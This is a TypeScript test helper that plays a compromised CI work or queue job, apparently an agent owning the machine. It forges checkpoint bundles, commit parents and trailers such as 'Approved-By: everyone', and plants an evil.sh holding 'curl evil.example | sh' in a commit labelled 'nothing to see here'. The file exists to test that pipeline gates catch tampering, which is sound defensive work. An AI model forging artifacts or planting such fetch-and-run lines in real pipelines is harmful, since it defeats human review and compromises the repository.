/**
 * Plays a compromised work job: rewrites a work artifact (its checkpoint bundle and result) the
 * way an agent that owns the job's machine could have written it, between the work job and the
 * queue and publish jobs. Three kinds: a path outside the item's writes, a parent that is not on the
 * queue, wrong trailers. Returns the forged commit, which must never reach GitHub.
 */
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gitText } from "../../../src/git/run-git.ts";
import { workerBranch } from "../../../src/gate/worker-branch.ts";
import { testGit } from "../../support/git-repo.ts";

export type Tamper = "outside-writes" | "parent-off-queue" | "wrong-trailers";

/** The step of a job of templates/naruto.yml that uploads its artifact folder. */
export function isUploadStep(step: string): boolean {
  return step === "naruto upload" || step.startsWith("Run actions/upload-artifact@");
}

interface ResultFile {
  mission: string;
  item: string;
  commit: string | null;
  base: string | null;
  outcome: { kind: string; commit?: string; base?: string; changed?: string[] };
}

export async function tamperWorkArtifact(input: { folder: string; bareRepo: string; kind: Tamper }): Promise<string> {
  const resultPath = join(input.folder, "result.json");
  const result = JSON.parse(await readFile(resultPath, "utf8")) as ResultFile;
  if (result.outcome.kind !== "checkpointed" || result.commit === null || result.base === null)
    throw new Error(`${input.folder}: not a checkpoint to tamper with (${result.outcome.kind})`);
  const branch = `refs/heads/${workerBranch(result.mission, result.item)}`;
  const dir = await mkdtemp(join(tmpdir(), "e2e-tamper-"));
  const git = testGit();
  const run = (...args: string[]) => gitText(git, { args, cwd: dir });
  try {
    await run("init", "-q");
    await run("fetch", "-q", input.bareRepo, `+refs/heads/naruto/${result.mission}:refs/queue`);
    await run("fetch", "-q", join(input.folder, "checkpoint.bundle"), `+${branch}:refs/original`);
    await run("checkout", "-q", "--detach", "refs/original");
    let base = result.base;
    if (input.kind === "outside-writes") {
      await writeFile(join(dir, "evil.js"), "// written outside the item's paths\n");
      await run("add", "evil.js");
      await run("commit", "-q", "--amend", "--no-edit");
    } else if (input.kind === "parent-off-queue") {
      await run("checkout", "-q", "--detach", result.base);
      await writeFile(join(dir, "unrelated.txt"), "a commit that is not on the queue\n");
      await run("add", "unrelated.txt");
      await run("commit", "-q", "-m", "not on the queue");
      base = await run("rev-parse", "HEAD");
      await run("cherry-pick", "--allow-empty", "refs/original");
    } else {
      const message = await run("log", "-1", "--format=%B", "refs/original");
      await run("commit", "-q", "--amend", "-m", message.replace(/^Naruto-Item: .*$/m, "Naruto-Item: someone-else"));
    }
    const forged = await run("rev-parse", "HEAD");
    await run("update-ref", branch, forged);
    await run("bundle", "create", "-q", join(input.folder, "checkpoint.bundle"), branch, `^${result.base}`);
    const outcome = { ...result.outcome, commit: forged, base };
    await writeFile(resultPath, `${JSON.stringify({ ...result, commit: forged, base, outcome }, null, 2)}\n`);
    return forged;
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

export type QueueTamper = "extra-commit" | "changed-tree" | "message-only";

/**
 * Plays a compromised queue job (the queue's verify ran the repository's code there): rewrites
 * its `naruto-queue` artifact so that it hands on other commits than the ones it built — one
 * more commit on top, the last commit with another tree, or with another message — with the
 * record naming the forged head and the bundle holding it. Returns the forged commit, which must
 * never reach GitHub; null when the queue job built nothing to forge.
 */
export async function tamperQueueArtifact(input: { folder: string; bareRepo: string; kind: QueueTamper }): Promise<string | null> {
  const recordPath = join(input.folder, "queue.json");
  const record = JSON.parse(await readFile(recordPath, "utf8")) as { mission: string; start_head: string; head: string };
  if (record.head === record.start_head) return null;
  const queue = `refs/heads/naruto/${record.mission}`;
  const dir = await mkdtemp(join(tmpdir(), "e2e-tamper-queue-"));
  const git = testGit();
  const run = (...args: string[]) => gitText(git, { args, cwd: dir });
  try {
    await run("init", "-q");
    await run("fetch", "-q", input.bareRepo, `+${record.start_head}:refs/start`);
    await run("fetch", "-q", join(input.folder, "queue.bundle"), `+${queue}:refs/original`);
    await run("checkout", "-q", "--detach", "refs/original");
    if (input.kind === "extra-commit") {
      await writeFile(join(dir, "evil.sh"), "curl evil.example | sh\n");
      await run("add", "evil.sh");
      await run("commit", "-q", "-m", "naruto: nothing to see here");
    } else if (input.kind === "changed-tree") {
      await writeFile(join(dir, "evil.sh"), "curl evil.example | sh\n");
      await run("add", "evil.sh");
      await run("commit", "-q", "--amend", "--no-edit");
    } else {
      const message = await run("log", "-1", "--format=%B", "refs/original");
      await run("commit", "-q", "--amend", "-m", `${message}\n\nApproved-By: everyone`);
    }
    const forged = await run("rev-parse", "HEAD");
    await run("update-ref", queue, forged);
    await rm(join(input.folder, "queue.bundle"), { force: true });
    await run("bundle", "create", "-q", join(input.folder, "queue.bundle"), queue, `^${record.start_head}`);
    await writeFile(recordPath, `${JSON.stringify({ ...record, head: forged }, null, 2)}\n`);
    return forged;
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
